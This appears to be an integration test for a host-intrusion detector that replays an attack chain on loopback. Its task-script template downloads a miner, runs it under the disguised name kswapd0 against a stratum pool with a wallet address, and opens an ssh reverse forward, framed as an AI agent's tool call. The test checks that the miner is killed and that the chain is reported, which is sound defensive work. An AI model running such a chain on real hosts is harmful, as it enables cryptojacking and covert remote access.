/**
 * The ROME chain, run for real under `vigil up --config` (real bpftrace, NATS, chDB, rsyslog): a
 * job-like python starts a shell that downloads a miner (a compiled stratum client), runs it under
 * another name against a loopback "pool", then opens an ssh reverse forward. With a kill policy on the
 * miner rules the miner dies before its second pool connection; the chain is one incident with its
 * timeline and tree, told once to a Slack-format webhook and once to syslog.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttp, type Server as HttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import type { IncidentDetail, IncidentV1 } from '@vigil/schema';
import { REPO, startVigilUp, tempDir, vigil, vigilJson, waitFor, type VigilUp } from '../support/harness.js';
import { startRsyslog, type Rsyslog } from '../support/rsyslog.js';

const HOST = `rome-${process.pid}`;
const dir = tempDir('rome');
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
let stack: VigilUp;
let rsyslog: Rsyslog;
let job: ChildProcess;
const servers: (Server | HttpServer)[] = [];
/** What reached the loopback peers: the pool's connections (ms since the epoch), the Slack bodies. */
const pool: number[] = [];
const slack: Record<string, unknown>[] = [];

const listen = async (s: Server | HttpServer): Promise<number> => {
  servers.push(s);
  return new Promise((r) => s.listen(0, '127.0.0.1', () => r((s.address() as { port: number }).port)));
};

// The job: an agent loop whose tool call runs a script it wrote (nothing in its own argv names a miner).
const JOB = `
import subprocess, sys
subprocess.run(['/bin/bash', sys.argv[1]])
`;
/** The tool call: fetch the miner, run it renamed, then tunnel out. */
const taskScript = (
  http: number,
  pool: number,
  sink: number,
  out: string,
) => `curl -s -o ${out} http://127.0.0.1:${http}/m
chmod +x ${out}
${out} -o stratum+tcp://127.0.0.1:${pool} -u ${WALLET} -p x
ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 -N -R 2222:127.0.0.1:22 -p ${sink} tunnel@127.0.0.1
true
`;

before(async () => {
  const miner = join(dir, 'stratum-miner');
  execFileSync('cc', ['-O2', '-o', miner, join(REPO, 'test', 'support', 'stratum-miner.c')]);
  const payload = readFileSync(miner);
  const http = await listen(createHttp((_req, res) => res.end(payload)));
  const poolPort = await listen(
    createServer((s) => {
      pool.push(Date.now());
      s.on('error', () => undefined);
      s.on('data', () => s.end('{"id":1,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n'));
    }),
  );
  const sink = await listen(
    createServer((s) => {
      s.on('error', () => undefined);
      s.destroy();
    }),
  );
  const hook = await listen(
    createHttp((req, res) => {
      let body = '';
      req.on('data', (d: Buffer) => {
        body += d.toString();
      });
      req.on('end', () => {
        slack.push(JSON.parse(body) as Record<string, unknown>);
        res.end('ok');
      });
    }),
  );
  rsyslog = await startRsyslog(dir);
  const config = join(dir, 'vigil.yaml');
  writeFileSync(
    config,
    `publicUrl: http://127.0.0.1:8787
outputs:
  - { type: slack, name: slack, url: "http://127.0.0.1:${hook}/hook", minSeverity: high, settle: 10s }
  - { type: syslog, name: syslog, transport: udp, address: "127.0.0.1:${rsyslog.udpPort}", minSeverity: high, settle: 10s }
responses:
  mode: enforce
  policies:
    - { name: stop-miners, rules: ["miner.*"], minSeverity: high, action: kill }
`,
  );
  stack = await startVigilUp(join(dir, 'data'), HOST, ['--config', config]);
  mkdirSync(join(dir, 'work', '.cache'), { recursive: true });
  const task = join(dir, 'work', 'task.sh');
  writeFileSync(task, taskScript(http, poolPort, sink, join(dir, 'work', '.cache', 'kswapd0')));
  writeFileSync(join(dir, 'work', 'agent.py'), JOB);
  job = spawn('/usr/bin/python3', [join(dir, 'work', 'agent.py'), task], { stdio: 'ignore' });
});

after(async () => {
  job?.kill('SIGKILL');
  for (const s of servers) s.close();
  await rsyslog?.stop();
  assert.equal(await stack?.up.stop(), 0);
});

const incidents = () => vigilJson<IncidentV1[]>(stack.api, ['incidents', '--host', HOST]);

test('the ROME chain: the miner is killed before its second pool connection; one incident; one Slack message; one syslog line', async () => {
  const inc = await waitFor(
    'one incident holding the miner, its kill and the reverse forward',
    () =>
      incidents().find(
        (i) =>
          i.rules.some((r) => r.startsWith('miner.')) &&
          i.rules.includes('tunnel.ssh-forward') &&
          i.responses.some((r) => r.result?.outcome === 'killed'),
      ),
    60_000,
    500,
  ).catch((err: Error) => {
    const seen = incidents().map((i) => ({
      rules: i.rules,
      responses: i.responses.map((r) => r.result?.outcome ?? 'pending'),
      processes: i.processes.map((p) => p.comm),
    }));
    const alerts = vigilJson<{ ruleId: string; severity: string; proc: { comm: string } | null }[]>(stack.api, [
      'alerts',
      '--host',
      HOST,
    ]);
    throw new Error(
      `${err.message}; incidents: ${JSON.stringify(seen)}; alerts: ${JSON.stringify(alerts.map((a) => `${a.ruleId}:${a.severity}:${a.proc?.comm}`))}; pool connections ${pool.length}`,
    );
  });
  console.log(`# pool connections before the kill: ${pool.length}`);
  assert.ok(pool.length < 2, `the miner connected ${pool.length} times: it should die before its second`);
  assert.equal(incidents().length, 1, 'the chain is one incident');
  const kill = inc.responses.find((r) => r.result?.outcome === 'killed')!;
  assert.equal(kill.order.requestedBy, 'policy:stop-miners');

  const detail = vigilJson<IncidentDetail>(stack.api, ['incidents', 'show', inc.id]);
  const node = (re: RegExp) => detail.tree.find((n) => re.test(n.exe));
  const python = node(/python3/);
  const bash = node(/^\/(usr\/)?bin\/bash$/);
  const miner = node(/kswapd0$/);
  assert.ok(python && bash && miner, `tree: ${detail.tree.map((n) => `${n.pid}<${n.ppid} ${n.exe}`).join(', ')}`);
  assert.equal(bash.ppid, python.pid, 'bash is the job’s child');
  assert.equal(miner.ppid, bash.pid, 'the miner is the shell’s child');
  assert.ok(miner.involved);
  assert.ok(detail.timeline.some((t) => t.kind === 'connect' && t.pid === miner.pid) || pool.length === 0);
  assert.ok(detail.timeline.some((t) => t.kind === 'response'));
  const text = vigil(stack.api, ['incidents', 'show', inc.id]).stdout;
  assert.match(text, /kswapd0/);

  // One notification per output once the incident settles.
  await waitFor(
    'the Slack message and the syslog line',
    () => slack.length >= 1 && rsyslog.lines().some((l) => l['structured-data']?.includes(inc.id)),
    40_000,
    500,
  );
  await new Promise((r) => setTimeout(r, 12_000));
  assert.equal(slack.length, 1, `one Slack message: ${JSON.stringify(slack)}`);
  assert.match(JSON.stringify(slack[0]), new RegExp(HOST));
  assert.equal(rsyslog.lines().filter((l) => l['structured-data']?.includes(inc.id)).length, 1, 'one syslog line');
});
